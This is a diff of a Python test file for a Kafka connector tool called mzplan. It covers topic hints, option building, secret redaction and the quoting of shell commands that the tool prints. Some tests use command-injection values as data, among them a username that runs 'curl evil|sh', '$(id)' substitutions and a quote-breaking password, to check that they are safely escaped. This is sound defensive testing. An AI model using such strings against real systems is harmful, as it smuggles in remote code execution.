@@ -6,7 +6,6 @@ import re
 import shlex
 import tracemalloc
 from concurrent.futures import Future
-from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -19,10 +18,10 @@ from mzplan.connectors.kafka import client, probe
 from mzplan.connectors.kafka.client import ClusterError
 from mzplan.connectors.kafka.options import jaas, librdkafka_options, reader_options
 from mzplan.connectors.kafka.probe import compare_upstreams
-from mzplan.connectors.kafka.problems import _DENIED, KafkaProblems
+from mzplan.connectors.kafka.problems import KafkaProblems
 from mzplan.connectors.kafka.source import record_options, stream_options
 from mzplan.model.address import Address
-from mzplan.model.diagnostics import ExitCode, MzplanError
+from mzplan.model.diagnostics import Diagnostic, ExitCode, MzplanError
 from mzplan.model.words import nearest
 from mzplan.schema.description import Description, InlinedConnection
 from mzplan.schema.kinds import resource_kind
@@ -40,23 +39,23 @@ def connection(**body: Any) -> ResolvedConnection:
     )
 
 
-def source(**security: Any) -> Description:
-    body = {"type": "kafka", "brokers": ["a:1"], **({"security": security} if security else {})}
+def source(security: dict[str, Any] | None = None, **body: Any) -> Description:
+    cluster = {"type": "kafka", "brokers": ["a:1"], **({"security": security} if security else {})}
+    given = {"connection": "k", "topic": "orders", "format": {"type": "json", "schema": "id BIGINT"}}
+    link = InlinedConnection(address=Address("connection", "k"), type="kafka", body=cluster)
     return Description(
         address=Address("source", "orders"),
         id="id",
         generation=1,
         digest="1:a",
         type="kafka",
-        body={"connection": "k", "topic": "orders", "format": {"type": "json", "schema": "id BIGINT"}},
-        connections={
-            "connection": InlinedConnection(address=Address("connection", "k"), type="kafka", body=body)
-        },
+        body={**given, **body},
+        connections={"connection": link},
     )
 
 
-def query() -> ResolvedQuery:
-    return resolve(source(), Secrets(".", {}), ".")
+def query(security: dict[str, Any] | None = None, **body: Any) -> ResolvedQuery:
+    return resolve(source(security, **body), Secrets(".", {}), ".")
 
 
 @pytest.mark.parametrize(
@@ -69,71 +68,66 @@ def query() -> ResolvedQuery:
         ),
     ],
 )
-def test_where_a_stream_begins(start: str, options: dict[str, str]) -> None:
-    description = source()
-    described = replace(description, body={**description.body, "start_offsets": start})
-    query = resolve(described, Secrets(".", {}), ".")
-    found = stream_options(query)
+def test_a_stream_begins_at_start_offsets(start: str, options: dict[str, str]) -> None:
+    asked = query(start_offsets=start)
+    found = stream_options(asked)
     assert {name: value for name, value in found.items() if name.startswith("starting")} == options
-    # A step that is read again has its own offsets, which Spark would take second to a time.
-    assert not options.keys() & record_options(query).keys()
+    # A step that is read again has its own offsets. Spark would prefer a time to them.
+    assert not options.keys() & record_options(asked).keys()
 
 
-def test_a_topic_of_nearly_this_name() -> None:
-    class Admin:
-        def __init__(self, there: list[str] | None):
-            self.there = there
+def missing_topic(asked: ResolvedQuery, topics: list[str] | None) -> Diagnostic:
+    """Return the error if a cluster has only these topics. None: it doesn't list them."""
+    missing: Future[Any] = Future()
+    missing.set_exception(KafkaException(KafkaError(KafkaError.UNKNOWN_TOPIC_OR_PART)))
 
-        def describe_topics(self, *_: Any, **__: Any) -> dict[str, Future[Any]]:
-            missing: Future[Any] = Future()
-            missing.set_exception(KafkaException(KafkaError(KafkaError.UNKNOWN_TOPIC_OR_PART)))
-            return {"orders": missing}
+    def list_topics(timeout: float) -> Any:
+        if topics is None:
+            raise KafkaException(KafkaError(KafkaError._TIMED_OUT))
+        return SimpleNamespace(topics=dict.fromkeys(topics))
 
-        def describe_cluster(self, **_: Any) -> Future[Any]:
-            return Future()
-
-        def list_topics(self, timeout: float) -> Any:
-            if self.there is None:
-                raise KafkaException(KafkaError(KafkaError._TIMED_OUT))
-            return SimpleNamespace(topics=dict.fromkeys(self.there))
-
-        def poll(self, _: float) -> int:
-            return 0
-
-    create = "kafka-topics.sh --bootstrap-server a:1 --create --topic orders"
-    for there, hint in (
-        (["shop", "order"], f"did you mean order? Otherwise, create it: {create}"),
-        (["shop"], f"create it: {create}"),
-        (None, f"create it: {create}"),
-    ):
-        client: Any = SimpleNamespace(admin=Admin(there), problems=[])
-        with pytest.raises(ClusterError) as caught:
-            probe.identify(client, query(), False)
-        (found,) = caught.value.diagnostics
-        assert (found.code, found.hint) == ("MZ052", hint)
+    admin = SimpleNamespace(
+        describe_topics=lambda *_, **__: {asked.body["topic"]: missing},
+        describe_cluster=lambda **_: Future(),
+        list_topics=list_topics,
+        poll=lambda _: 0,
+    )
+    client: Any = SimpleNamespace(admin=admin, problems=[])
+    with pytest.raises(ClusterError) as caught:
+        probe.identify(client, asked, False)
+    (found,) = caught.value.diagnostics
+    return found
 
 
-def test_what_a_hint_has_a_shell_do_is_quoted() -> None:
-    """A name, a topic, a broker and an id that somebody else has written, in a command that is pasted."""
-    evil = "app; curl evil|sh #"
-    described = source(protocol="SASL_SSL", sasl={"mechanism": "PLAIN", "username": evil, "password": "p"})
-    described = replace(described, id="$(id)", body={**described.body, "topic": "`id`"})
-    asked = resolve(described, Secrets(".", {}), ".")
+@pytest.mark.parametrize(
+    ("topics", "near"), [(["shop", "order"], "did you mean order? Otherwise, "), (["shop"], ""), (None, "")]
+)
+def test_a_missing_topic_is_an_error_that_names_a_similar_one(topics: list[str] | None, near: str) -> None:
+    create = "create it: kafka-topics.sh --bootstrap-server a:1 --create --topic orders"
+    found = missing_topic(query(), topics)
+    assert (found.code, found.hint) == ("MZ052", near + create)
+
+
+def test_names_in_a_printed_command_are_quoted() -> None:
+    """Somebody else may have chosen the user, the topic, the broker or the id."""
+    user = "app; curl evil|sh #"
+    security = {"protocol": "SASL_SSL", "sasl": {"mechanism": "PLAIN", "username": user, "password": "p"}}
+    asked = query(security, topic="`id`")
     asked.link.body["brokers"][0] = "a:1;id"
-    hints = [client.not_allowed(asked, "`id`"), client._no_topic(asked, "`id`")]
-    hints += [KafkaProblems(asked)._denied(name, "mzplan.$(id)") for name in _DENIED]
-    for problem in hints:
-        (told,) = problem.diagnostics
-        command = told.hint.partition("create it: ")[2] or told.hint.removesuffix(
-            "; or set delivery: at-least-once."
-        )
-        words = shlex.split(command)
-        names = {"a:1;id", f"User:{evil}", "`id`", "mzplan.$(id)"}
+    found = [missing_topic(asked, None), *client.not_allowed(asked, "`id`").diagnostics]
+    transaction: Any = SimpleNamespace(name="mzplan.$(id)")
+    for denied in ("TRANSACTIONAL_ID", "GROUP", "TOPIC", "CLUSTER"):
+        problem = KafkaProblems(asked).of(f"{denied}_AUTHORIZATION_FAILED", "", transaction)
+        found += problem.diagnostics
+    for diagnostic in found:
+        hint = diagnostic.hint.removesuffix("; or set delivery: at-least-once.")
+        words = shlex.split(hint.rpartition("create it: ")[2])
+        names = {"a:1;id", f"User:{user}", "`id`", "mzplan.$(id)"}
         assert words[2] == "a:1;id" and all(w in names or re.fullmatch(r"[\w.-]+", w) for w in words)
 
 
-def test_what_a_broker_names_is_not_kept_and_has_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
-    """One that lies names others each time, as long as it likes, and as many."""
+def test_a_brokers_topics_take_bounded_memory(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A hostile broker lists other topics each time, with long names, and without end."""
     tracemalloc.start()
     for look in range(3):
         assert nearest("orders", (f"{look}{number}".ljust(32_000, "x") for number in range(1000))) is None
@@ -148,7 +142,7 @@ def test_what_a_broker_names_is_not_kept_and_has_a_bound(monkeypatch: pytest.Mon
     assert made[0]["receive.message.max.bytes"] < 10_000_000
 
 
-def test_a_password_can_not_leave_its_quotes() -> None:
+def test_a_password_cannot_end_its_quotes() -> None:
     line = jaas("PLAIN", 'u"x', 'p\\" required; evil="\n')
     assert line == (
         "org.apache.kafka.common.security.plain.PlainLoginModule required "
@@ -156,9 +150,11 @@ def test_a_password_can_not_leave_its_quotes() -> None:
     )
 
 
-def test_plain_text_needs_nothing_but_the_brokers() -> None:
-    assert reader_options(connection(), ".")["kafka.bootstrap.servers"] == "a:1,b:2"
-    assert reader_options(connection(), ".")["kafka.security.protocol"] == "PLAINTEXT"
+def test_plain_text_needs_only_the_brokers() -> None:
+    options = reader_options(connection(options={"request.timeout.ms": 1}), ".")
+    assert options["kafka.bootstrap.servers"] == "a:1,b:2"
+    assert options["kafka.security.protocol"] == "PLAINTEXT"
+    assert options["kafka.request.timeout.ms"] == "1"  # the user's options win
     options = librdkafka_options(connection(), ".")
     assert options["bootstrap.servers"] == "a:1,b:2"
     assert not any(key.startswith(("sasl", "ssl")) for key in options)
@@ -176,56 +172,53 @@ def test_tls_and_sasl_in_both_dialects(tmp_path: Path) -> None:
         options={"client.id": "me", "fetch.min.bytes": 1, "check.crcs": True},
     )
     java = reader_options(cluster, str(tmp_path))
-    assert java["kafka.ssl.truststore.certificates"] == "CA"
-    assert java["kafka.ssl.keystore.certificate.chain"] == "ME"
-    assert java["kafka.ssl.keystore.key"] == "KEY"
-    assert java["kafka.ssl.endpoint.identification.algorithm"] == ""
-    assert java["kafka.sasl.mechanism"] == "SCRAM-SHA-512"
-    assert 'ScramLoginModule required username="app" password="secret";' in java["kafka.sasl.jaas.config"]
-    assert (java["kafka.fetch.min.bytes"], java["kafka.check.crcs"]) == ("1", "true")
-    other = librdkafka_options(cluster, str(tmp_path))
-    assert other["ssl.ca.pem"] == "CA"
-    assert other["ssl.key.pem"] == "KEY"
-    assert other["ssl.endpoint.identification.algorithm"] == "none"
-    assert other["sasl.password"] == "secret"
-    assert other["client.id"] == "me"
-    assert "fetch.min.bytes" not in other, "librdkafka calls it otherwise"
-
-
-def test_options_of_the_user_win() -> None:
-    options = reader_options(connection(options={"request.timeout.ms": 1}), ".")
-    assert options["kafka.request.timeout.ms"] == "1"
+    login = java.pop("kafka.sasl.jaas.config")
+    assert 'ScramLoginModule required username="app" password="secret";' in login
+    assert java.items() >= {
+        ("kafka.ssl.truststore.certificates", "CA"),
+        ("kafka.ssl.keystore.certificate.chain", "ME"),
+        ("kafka.ssl.keystore.key", "KEY"),
+        ("kafka.ssl.endpoint.identification.algorithm", ""),
+        ("kafka.sasl.mechanism", "SCRAM-SHA-512"),
+        ("kafka.fetch.min.bytes", "1"),
+        ("kafka.check.crcs", "true"),
+    }
+    options = librdkafka_options(cluster, str(tmp_path))
+    assert options.items() >= {
+        ("ssl.ca.pem", "CA"),
+        ("ssl.key.pem", "KEY"),
+        ("ssl.endpoint.identification.algorithm", "none"),
+        ("sasl.password", "secret"),
+        ("client.id", "me"),
+    }
+    assert "fetch.min.bytes" not in options, "librdkafka has another name for it"
 
 
 def test_secrets_are_in_no_repr() -> None:
-    description = source(
-        protocol="SASL_SSL", sasl={"mechanism": "PLAIN", "username": "app", "password": "${env:PW}"}
-    )
+    sasl = {"mechanism": "PLAIN", "username": "app", "password": "${env:PW}"}
+    description = source({"protocol": "SASL_SSL", "sasl": sasl})
     resolved = resolve(description, Secrets(".", {"PW": "s3cret"}), ".")
     assert resolved.link.body["security"]["sasl"]["password"] == "s3cret"
     assert "s3cret" not in repr(resolved)
-    with pytest.raises(MzplanError) as caught:
+    with pytest.raises(MzplanError, match="MZ056"):
         resolve(description, Secrets(".", {}), ".")
-    assert caught.value.diagnostics[0].code == "MZ056"
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "detail"),
     [
+        ({}, None),
+        ({"partitions": 9}, None),
+        ({"topic_id": None}, None),
         ({"cluster_id": "c2"}, "Kafka cluster c2 instead of c1"),
         ({"topic_id": "t2"}, "deleted and created again"),
         ({"partitions": 2}, "has 2 partitions instead of 3"),
     ],
 )
-def test_another_upstream_is_refused(change: dict[str, Any], said: str) -> None:
+def test_another_upstream_is_refused(change: dict[str, Any], detail: str | None) -> None:
     found = compare_upstreams(query(), RECORDED, {**RECORDED, **change})
-    assert found is not None
-    assert (found.code, found.exit_code) == ("MZ043", ExitCode.REFUSED)
-    assert said in found.detail
-    assert "connection.k (a:1)" in found.detail
-    assert "--replace source.orders" in found.hint
-
-
-@pytest.mark.parametrize("change", [{}, {"partitions": 9}, {"topic_id": None}])
-def test_the_same_upstream(change: dict[str, Any]) -> None:
-    assert compare_upstreams(query(), RECORDED, {**RECORDED, **change}) is None
+    assert (found is None) == (detail is None)
+    if found is not None and detail is not None:
+        assert (found.code, found.exit_code) == ("MZ043", ExitCode.REFUSED)
+        assert detail in found.detail and "connection.k (a:1)" in found.detail
+        assert "--replace source.orders" in found.hint
